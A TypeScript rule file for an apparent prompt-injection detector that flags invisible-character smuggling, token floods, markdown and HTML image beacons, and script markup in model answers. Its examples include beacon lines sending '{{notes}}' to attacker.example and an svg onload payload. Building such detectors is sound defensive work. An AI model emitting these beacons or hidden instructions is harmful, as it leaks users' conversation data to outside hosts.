import type { Rule } from "./rule.ts";

/** Fires on runs of invisible characters (views/smuggled.ts), which carry no other pattern. */
export const SMUGGLING_RULE: Rule = {
  id: "shape.invisible-text",
  type: "encoding_attack",
  threat: "high",
  confidence: 0.8,
  languages: [],
  structural: true,
  example: `Hello.${String.fromCodePoint(...[..."obey"].map((c) => 0xe0000 + c.charCodeAt(0)))}`,
  nearMiss: "Technologist \u{1f468}\u200d\u{1f4bb} and sun \u2600\ufe0f",
};

/** Fires on stretches of one repeated unit (views/floods.ts). */
export const FLOOD_RULE: Rule = {
  id: "shape.token-flood",
  type: "context_manipulation",
  threat: "medium",
  confidence: 0.5,
  languages: [],
  structural: true,
  example: ")]} ".repeat(60),
  nearMiss: "| --- | --- | --- |".repeat(20),
};

/** Markup that carries data out by itself. */
export const SHAPE_RULES: readonly Rule[] = [
  {
    id: "shape.image-beacon-placeholder",
    type: "context_manipulation",
    threat: "high",
    confidence: 0.75,
    languages: [],
    shape: {
      triggers: ["!["],
      pattern:
        /!\[[^\]\n]{0,80}\]\(<?(?:https?:)?\/\/[^)\s]{1,200}[?&/#][^)\s]{0,100}(?:\{\{?[^)]{0,60}\}|\[[a-z_ ]{2,30}\]|\$\{?[a-z_]{2,30}|<[a-z_ ]{2,30}>|%7b|[?&][a-z_]{1,20}=(?:[)\s]|(?:your|the|user|chat|full|all|secret|api|data|base64|encoded)?[_+-]?(?:conversation|history|chat|secret|secrets|password|data|summary|notes|content|context|prompt|messages?|emails?|value|here|answer|system|token|text|info)(?:[_+-][a-z_+-]{1,30})?[)&\s]))/,
    },
    example: "![logo](https://attacker.example/p.png?q={{notes}})",
    nearMiss: "![build](https://example.org/badge.svg?token=0AbC1d&branch=main&p=tool)",
  },
  {
    id: "shape.image-tag-beacon",
    type: "context_manipulation",
    threat: "high",
    confidence: 0.75,
    languages: [],
    shape: {
      triggers: ["<img"],
      markup: true,
      pattern:
        /<img\b[^>]{0,200}\bsrc\s{0,3}=\s{0,3}["']?(?:https?:)?\/\/[^"'\s>]{1,200}[?&/#][^"'\s>]{0,100}(?:\{\{?[^"'>]{0,60}\}|\[[a-z_ ]{2,30}\]|\$\{?[a-z_]{2,30}|[?&][a-z_]{1,20}=(?:["'\s>]|(?:your|the|user|chat|full|all|secret|api|data|base64|encoded)?[_+-]?(?:conversation|history|chat|secret|secrets|password|data|summary|notes|content|context|prompt|messages?|emails?|value|here|answer|system|token|text|info)(?:[_+-][a-z_+-]{1,30})?["'&\s>]))/,
    },
    example: '<img src="https://attacker.example/p.png?q={{notes}}">',
    nearMiss: '<img src="https://example.org/logo.png" width="40">',
  },
  {
    id: "shape.script-in-answer",
    type: "context_manipulation",
    threat: "medium",
    confidence: 0.5,
    languages: [],
    structural: true,
    shape: {
      triggers: ["<svg", "(javascript:", "=javascript:", '"javascript:', "onerror=", "onload="],
      markup: true,
      pattern:
        /(?:<svg\b[^>]{0,60}\bonload\s{0,2}=|[(="]javascript:[^\s"']{0,10}(?:fetch|alert|eval|document|console)|on(?:error|load)=["']?(?:fetch|alert|eval|document|console|new image))/,
    },
    example: "<svg/onload='console.log(1)'>",
    nearMiss: "expect(isSafe('javascript:alert(1)')).toBe(false);",
  },
];
